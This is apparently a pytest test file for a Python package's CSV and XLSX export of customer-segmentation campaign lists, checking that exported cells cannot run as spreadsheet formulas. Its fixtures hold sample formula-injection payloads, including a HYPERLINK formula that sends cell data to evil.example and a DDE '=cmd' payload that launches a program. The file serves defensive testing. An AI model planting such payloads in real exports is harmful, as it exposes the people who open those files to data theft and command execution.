"""Campaign lists as CSV/XLSX bytes, safe against formula injection (metriqr.export, metriqr.report)."""
from __future__ import annotations

import csv
import io
import re
import zipfile

import openpyxl
import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from metriqr.export import neutralise, safe_frame, sheet_name, to_csv_bytes, to_xlsx_bytes
from metriqr.report import (CUSTOMER_EXPORT_COLUMNS, customers_export, display_customers, localise_customers,
                            workbook_sheets)
from metriqr.segmentation import segment_customers
from metriqr.segments import SEGMENTS

HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"clique")', "+1", "-2+3", "@SUM(A1:A9)", "\tcmd", "-"]


def campaign() -> pd.DataFrame:
    return pd.DataFrame({
        "customer": HOSTILE + ["Ana"],
        "monetary": [1103.48, -2.5, 3.0, 4.0, 5.0, 6.0, 7.25],  # negative numbers are not text
        "frequency": [1, 2, 3, 4, 5, 6, 7],
        "last_purchase": pd.to_datetime(["2024-01-05"] * 7),
    })


def read_csv_text(data: bytes) -> str:
    assert data.startswith(b"\xef\xbb\xbf")  # BOM: Excel opens UTF-8 accents correctly
    return data.decode("utf-8-sig")


@pytest.mark.parametrize("value, expected", [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-2+3", "'-2+3"), ("@SUM(A1)", "'@SUM(A1)"), ("\tx", "'\tx"),
    ("\rx", "'\rx"), ("Ana", "Ana"), ("", ""), (-2.5, -2.5), (3, 3), (None, None),
])
def test_neutralise(value, expected):
    assert neutralise(value) == expected


def test_csv_text_cells_are_inert_and_numbers_stay_numbers_pt():
    text = read_csv_text(to_csv_bytes(campaign(), lang="pt"))
    rows = pd.read_csv(io.StringIO(text), sep=";", dtype=str, keep_default_na=False)
    assert rows.columns.tolist() == ["customer", "monetary", "frequency", "last_purchase"]
    assert rows["customer"].tolist() == ["'" + v for v in HOSTILE] + ["Ana"]
    assert rows["monetary"].tolist() == ["1103,48", "-2,5", "3,0", "4,0", "5,0", "6,0", "7,25"]  # not prefixed
    assert rows["frequency"].tolist() == ["1", "2", "3", "4", "5", "6", "7"]
    assert rows["last_purchase"].iloc[0] == "2024-01-05"
    assert text.splitlines()[0] == "customer;monetary;frequency;last_purchase"


def test_csv_english_uses_comma_and_point():
    text = read_csv_text(to_csv_bytes(campaign(), lang="en"))
    rows = pd.read_csv(io.StringIO(text), sep=",", dtype=str, keep_default_na=False)
    assert rows["monetary"].iloc[0] == "1103.48" and rows["customer"].iloc[1] == "'+1"


def csv_cells(data: bytes, sep: str = ";") -> list[list[str]]:
    """Cells as a spreadsheet program splits them: a bare carriage return also ends a row."""
    return list(csv.reader(io.StringIO(read_csv_text(data), newline=""), delimiter=sep))


@pytest.mark.parametrize("value", ["Ana\r=1+1", "\r=1+1", "Ana\r@SUM(A1:A9)", "Ana\n=1+1", "Ana\r\n-2+3"])
def test_csv_line_break_inside_a_value_cannot_start_a_live_row(value):
    """A line break inside a name must stay inside its (quoted) cell: otherwise the text after it
    starts a new row, and `=1+1` there is a formula again."""
    rows = csv_cells(to_csv_bytes(pd.DataFrame({"name": [value], "n": [1]})))
    assert len(rows) == 2, rows
    assert rows[1][1] == "1"
    assert all(not cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row), rows


FORMULA_TEXT = st.text(alphabet=st.sampled_from(list("=+-@\t\r\n;,\"' aZ1")), max_size=12)


@settings(max_examples=150, deadline=None)
@given(st.lists(FORMULA_TEXT, min_size=1, max_size=5), st.sampled_from(["pt", "en"]))
def test_csv_no_cell_ever_reads_as_a_formula(values, lang):
    data = to_csv_bytes(pd.DataFrame({"name": values, "n": range(len(values))}), lang=lang)
    rows = csv_cells(data, ";" if lang == "pt" else ",")
    assert len(rows) == len(values) + 1
    for row, value in zip(rows[1:], values):
        assert row[0] == neutralise(value)


def test_csv_for_machines_without_bom():
    data = to_csv_bytes(campaign(), lang="en", bom=False)
    assert data.startswith(b"customer,monetary")


def test_csv_header_is_neutralised_too():
    text = read_csv_text(to_csv_bytes(pd.DataFrame({"=cmd": ["a"], "ok": [1]})))
    assert text.splitlines()[0] == "'=cmd;ok"


def test_safe_frame_leaves_the_input_alone():
    frame = campaign()
    safe_frame(frame)
    assert frame["customer"].iloc[1] == "+1"


def test_xlsx_text_cells_are_strings_never_formulas():
    data = to_xlsx_bytes({"Lista": campaign()})
    sheet = openpyxl.load_workbook(io.BytesIO(data)).worksheets[0]
    rows = list(sheet.iter_rows(min_row=2))
    for row, value in zip(rows, HOSTILE + ["Ana"]):
        assert row[0].value == value and row[0].data_type == "s"
    assert [r[1].value for r in rows] == [1103.48, -2.5, 3, 4, 5, 6, 7.25]
    assert all(r[1].data_type == "n" and r[2].data_type == "n" for r in rows)
    assert rows[0][3].value == pd.Timestamp("2024-01-05").to_pydatetime()
    assert [c.value for c in next(sheet.iter_rows(max_row=1))] == ["customer", "monetary", "frequency",
                                                                    "last_purchase"]
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        xml = "".join(archive.read(n).decode() for n in archive.namelist() if n.startswith("xl/worksheets/"))
    assert "<f>" not in xml and "<f " not in xml  # no formula element anywhere


def test_xlsx_missing_values_are_empty_cells():
    frame = pd.DataFrame({"a": ["x", "y"], "b": [1.0, float("nan")], "c": pd.to_datetime(["2024-01-01", None]),
                          "d": ["z", None]})
    sheet = openpyxl.load_workbook(io.BytesIO(to_xlsx_bytes({"s": frame}))).worksheets[0]
    assert [c.value for c in list(sheet.iter_rows(min_row=3))[0]] == ["y", None, None, None]


@pytest.mark.parametrize("name, expected", [
    ("Campeões", "Campeões"),
    ("Hibernating / Lost", "Hibernating   Lost"),
    ("a[b]:c*d?e\\f", "a b  c d e f"),
    ("x" * 40, "x" * 31),
    ("", "Sheet"),
    ("///", "Sheet"),
])
def test_sheet_name_is_valid(name, expected):
    assert sheet_name(name, set()) == expected


def test_sheet_names_unique_ignoring_case():
    taken: set[str] = set()
    names = [sheet_name(n, taken) for n in ["Resumo", "resumo", "RESUMO", "y" * 40, "y" * 35]]
    assert names[:3] == ["Resumo", "resumo (2)", "RESUMO (3)"]
    assert names[3] == "y" * 31 and names[4] == "y" * 27 + " (2)"
    assert len({n.lower() for n in names}) == 5 and all(len(n) <= 31 for n in names)


@settings(max_examples=100, deadline=None)
@given(st.lists(st.text(max_size=45), min_size=1, max_size=8))
def test_sheet_names_always_valid_and_unique(requested):
    taken: set[str] = set()
    names = [sheet_name(n, taken) for n in requested]
    assert all(1 <= len(n) <= 31 and not re.search(r"[\[\]:*?/\\]", n) for n in names)
    assert len({n.lower() for n in names}) == len(names)


# --- the segmentation's lists and workbook ------------------------------------------------------

@pytest.fixture(scope="module")
def segmentation():
    tx = pd.DataFrame({
        "customer": ["=HYPERLINK(\"x\")", "Ana", "Bia", "Bia", "Caio", "+55 11 9999"],
        "date": pd.to_datetime(["2024-06-30", "2024-06-01", "2024-05-01", "2024-06-15", "2024-01-10", "2024-03-01"]),
        "amount": [10.0, 250.0, 40.0, 60.0, 5.0, 80.0],
        "is_return": [False] * 6,
    })
    return segment_customers(tx, as_of="2024-07-01")


def test_customers_export_columns_and_order(segmentation):
    out = customers_export(segmentation)
    assert tuple(out.columns) == CUSTOMER_EXPORT_COLUMNS
    assert out["customer"].tolist() == ["Ana", "Bia", "+55 11 9999", '=HYPERLINK("x")', "Caio"]  # by spend
    assert out["monetary"].tolist() == [250.0, 100.0, 80.0, 10.0, 5.0]
    assert set(out["segment"]) <= {s.key for s in SEGMENTS}
    one = customers_export(segmentation, segment=out["segment"].iloc[0])
    assert (one["segment"] == out["segment"].iloc[0]).all() and len(one) >= 1


def test_customers_export_with_names(segmentation):
    names = pd.Series({"Ana": "Ana Souza", "Bia": "=cmd|' /C calc'!A0"})
    out = customers_export(segmentation, names=names)
    assert out.columns.tolist()[:2] == ["customer", "customer_name"]
    assert out.loc[out["customer"] == "Bia", "customer_name"].item() == "=cmd|' /C calc'!A0"
    text = read_csv_text(to_csv_bytes(out))
    assert "'=cmd|' /C calc'!A0" in text and "'=HYPERLINK" in text and "'+55 11 9999" in text


def test_localised_list_keeps_numbers(segmentation):
    out = localise_customers(customers_export(segmentation), "pt")
    assert out.columns.tolist() == ["Cliente", "Última compra", "Recência (dias)", "Frequência (compras)",
                                    "Valor líquido", "R", "F", "M", "Segmento"]
    assert out["Valor líquido"].dtype.kind == "f"
    assert set(out["Segmento"]) <= {s.label("pt") for s in SEGMENTS}
    shown = display_customers(customers_export(segmentation), "pt")
    assert shown["Valor líquido"].iloc[0] == "R$ 250,00" and shown["Última compra"].iloc[0] == "01/06/2024"


def test_workbook_summary_and_one_sheet_per_segment(segmentation):
    for lang in ("pt", "en"):
        sheets = workbook_sheets(segmentation, lang)
        assert list(sheets) == [("Resumo" if lang == "pt" else "Summary")] + [s.label(lang) for s in SEGMENTS]
        summary = list(sheets.values())[0]
        assert len(summary) == 10
        assert sum(len(frame) for frame in list(sheets.values())[1:]) == len(segmentation.customers)
        workbook = openpyxl.load_workbook(io.BytesIO(to_xlsx_bytes(sheets)))
        names = workbook.sheetnames
        assert len(names) == 11 and len({n.lower() for n in names}) == 11
        assert all(len(n) <= 31 and not re.search(r"[\[\]:*?/\\]", n) for n in names)
        cells = [c for ws in workbook.worksheets for row in ws.iter_rows() for c in row
                 if isinstance(c.value, str) and c.value.startswith(("=", "+"))]
        assert cells and all(c.data_type == "s" for c in cells)
    en = openpyxl.load_workbook(io.BytesIO(to_xlsx_bytes(workbook_sheets(segmentation, "en"))))
    assert "Hibernating   Lost" in en.sheetnames


# --- issue 9 item 14: control characters never make an export fail ----------------------------

def test_xlsx_with_control_characters_is_written_and_says_how_many_cells_changed():
    from metriqr.export import REPLACEMENT, to_xlsx_bytes, xlsx_export

    frame = pd.DataFrame({"customer": ["\x1bC001", "ok", "nul\x00here"], "monetary": [1.0, 2.0, 3.0]})
    content, cleaned = xlsx_export({"clientes": frame})
    assert cleaned == 2
    rows = list(openpyxl.load_workbook(io.BytesIO(content)).active.iter_rows(values_only=True))
    assert [r[0] for r in rows[1:]] == [f"{REPLACEMENT}C001", "ok", f"nul{REPLACEMENT}here"]
    assert to_xlsx_bytes({"clientes": frame})[:2] == b"PK"
